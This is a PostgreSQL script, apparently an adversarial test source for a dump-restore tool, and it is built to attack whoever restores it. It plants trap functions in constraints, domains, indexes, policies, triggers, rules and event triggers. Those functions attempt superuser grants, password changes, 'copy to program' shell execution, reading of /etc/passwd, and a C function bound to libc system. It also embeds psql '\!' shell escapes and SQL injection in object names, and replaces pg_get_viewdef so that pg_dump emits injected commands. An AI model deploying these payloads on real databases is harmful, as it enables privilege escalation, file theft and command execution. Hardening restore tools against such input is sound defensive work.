-- A source that is made to attack whoever restores it. Its code runs wherever
-- code of a database runs by itself, and tries what owners may not.

create table spoils (text text);

create function trap() returns bool language plpgsql as $$
declare
	s text;
begin
	if current_user <> 'app' then
		return true; -- at home
	end if;
	perform lo_create(0); -- remembers who ran this
	if session_user <> 'app' or current_setting('is_superuser') <> 'off' then
		insert into public.spoils values ('ran as ' || session_user);
	end if;
	foreach s in array array[
		'alter role app superuser', 'create role pwned superuser login', 'alter role holdfast password ''x''', 'grant holdfast to app',
		'grant pg_execute_server_program to app', 'set session authorization holdfast', 'set role holdfast', 'reset role; reset session authorization',
		'copy (select 1) to program ''touch /tmp/holdfast-attack''', 'copy public.spoils from ''/etc/passwd''', 'copy public.spoils from program ''id''',
		'insert into public.spoils select pg_read_file(''/etc/passwd'')', 'alter system set work_mem = ''1MB''', 'load ''auto_explain''',
		'create extension file_fdw', 'create extension dblink', 'create event trigger e on ddl_command_start execute function public.on_ddl()',
		'alter table public.by_check owner to holdfast', 'create function public.evil() returns int language c as ''libc.so.6'', ''system''',
		'update pg_authid set rolsuper = true', 'alter database postgres owner to app', 'create database pwned', 'select lo_export(1, ''/tmp/holdfast-attack'')'
	] loop
		begin
			execute s;
			if s !~ 'reset' then
				insert into public.spoils values ('succeeded: ' || s);
			end if;
		exception when others then
			null;
		end;
	end loop;
	return true;
end $$;
create function quiet_trap(n int) returns int language plpgsql immutable as $$
begin
	if current_user = 'app' then
		begin
			execute 'set role holdfast';
			return n + 1000;
		exception when others then
			null;
		end;
	end if;
	return n;
end $$;
create function on_ddl() returns event_trigger language plpgsql as $$ begin perform public.trap(); end $$;
create function on_row() returns trigger language plpgsql as $$ begin perform public.trap(); return new; end $$;

create domain checked as int check (trap());
create table by_check (n int check (trap()), m checked, g int generated always as (quiet_trap(n)) stored, d int default quiet_trap(1));
insert into by_check values (1, 1), (2, 2);
create index by_expression on by_check (quiet_trap(n)) where quiet_trap(n) < 100;
create statistics by_statistics on (quiet_trap(n)), m from by_check;
alter table by_check add constraint later check (trap()) not valid;
create materialized view by_view as select trap() as t, n from by_check;
create table by_policy (n int);
insert into by_policy values (1);
alter table by_policy enable row level security, force row level security;
create policy p on by_policy using (trap());
create trigger by_trigger before insert on by_check for each row execute function on_row();
create rule by_rule as on insert to by_policy do also select trap();
create table by_partition (n int) partition by range (quiet_trap(n));
create table by_partition_1 partition of by_partition for values from (0) to (1000);
insert into by_partition values (1);
create event trigger by_event on ddl_command_start execute function on_ddl();

-- Names that a script would take for commands.
create table "
\! touch /tmp/holdfast-attack
" (n int);
comment on table "
\! touch /tmp/holdfast-attack
" is '
\! touch /tmp/holdfast-attack
';
create schema "x'; alter role app superuser; --";
create role "y"" superuser; --" nologin;
grant select on by_check to "y"" superuser; --";
create policy named on by_policy to "y"" superuser; --";

-- A server that lies about what things are: pg_dump believes it.
create table v_super (n int);
create table victim (id int primary key, x text);
insert into victim values (1);
create view lie_rows as select v.id, v.x, count(*) from victim v group by v.id; -- made after the data, for the key's sake
create view lie_super as select 1 as n;
create view lie_copy as select 1 as n;
create view lie_begin as select 1 as n;
create view lie_password as select 1 as n;
create view lie_settings as select 1 as n;
alter function pg_catalog.pg_get_viewdef(oid) rename to pg_get_viewdef_true;
create function pg_catalog.pg_get_viewdef(oid) returns text language sql stable strict as $$
	select case (select relname from pg_catalog.pg_class where oid = $1)
	when 'lie_rows' then 'select null::int as id, null::text as x, null::bigint as count; insert into public.victim values (999); select 1;'
	when 'lie_super' then 'select 1 as n; alter role app superuser; select 1;'
	when 'lie_copy' then 'select 1 as n; copy public.by_check from stdin; select 1;'
	when 'lie_begin' then 'select 1 as n; commit; begin; set session authorization default; lock table public.by_check; select 1;'
	when 'lie_password' then 'select 1 as n; alter role app password ''known-to-the-source''; select 1;'
	when 'lie_settings' then 'select 1 as n; do $x$ begin execute format(''alter database %I set role = none'', current_database()); '
		|| 'execute format(''alter database %I set search_path = public, pg_catalog'', current_database()); end $x$; create temp table pg_class (n int); set search_path = public; select 1;'
	else pg_get_viewdef_true($1) end $$;
